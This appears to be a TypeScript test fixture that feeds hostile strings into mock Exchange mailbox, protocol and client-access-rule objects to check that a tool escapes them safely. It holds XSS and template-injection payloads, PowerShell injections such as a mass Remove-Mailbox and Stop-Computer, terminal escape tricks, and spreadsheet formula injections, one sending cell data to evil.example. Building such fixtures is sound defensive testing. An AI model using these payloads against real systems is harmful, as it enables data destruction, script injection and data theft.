// Exports whose every string an attacker could control carry markup, template syntax and PowerShell.

import { casMailboxDeserialized, clientAccessRule, exchangeServer, protocolServices, protocolSettings } from './exchange-objects.js';

export const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '</script><script>window.__pwned=2</script>',
  '{{constructor.constructor "window.__pwned=3"}}',
  '"><svg onload=window.__pwned=4>',
  "'; Remove-Mailbox -Identity * -Confirm:$false; '",
  '$(Stop-Computer -Force)',
  '`n# line break attempt\r\nStop-Computer',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  'Legacy -WhatIf',
  'Michał $(Invoke-Pwned) ł Ñ Ò',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[8mhidden\u001b[0m \u202eevil',
];

/** Text a spreadsheet would run as a formula (CSV injection), kept apart so PAYLOADS' positions do not move. */
export const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd', '-2+3'];

/** A bundle where display names, banners, rule names, patterns and the server name are hostile. */
export function hostileBundle(): Record<string, unknown[]> {
  // Typographic quotes close a single-quoted PowerShell string just as ' does.
  const server = 'EVIL<b>01’; Invoke-Pwned; ‘';
  const payload = (i: number) => PAYLOADS[i % PAYLOADS.length] as string;
  return {
    PopSettings: [protocolSettings('POP3', server, 'deserialized', { LoginType: 'PlainTextLogin', Banner: payload(0), X509CertificateName: payload(1) })],
    ImapSettings: [protocolSettings('IMAP4', server, 'deserialized', { Banner: payload(2), ProtocolLogEnabled: false })],
    Service: protocolServices(server, 'deserialized', { MSExchangePop3: ['Running', 'Automatic'] }),
    ExchangeServer: [exchangeServer(server, 'SE', 'deserialized')],
    CASMailbox: PAYLOADS.map((p, i) => casMailboxDeserialized(i + 1, { Name: `${p} ${i}`, DisplayName: p, SamAccountName: i === 0 ? 'Administrator' : `u${i}`, PopEnabled: true, ImapEnabled: true })).concat(FORMULAS.map((p, i) => casMailboxDeserialized(100 + i, { Name: p, DisplayName: p, SamAccountName: `f${i}`, PopEnabled: true, ImapEnabled: true }))),
    ClientAccessRule: PAYLOADS.slice(0, 4).map((p, i) => clientAccessRule({ Name: `${p} rule ${i}`, Priority: i + 1, Action: 'DenyAccess', AnyOfProtocols: ['RemotePowerShell'], UsernameMatchesAnyOfPatterns: [p] }, 'deserialized')),
  };
}
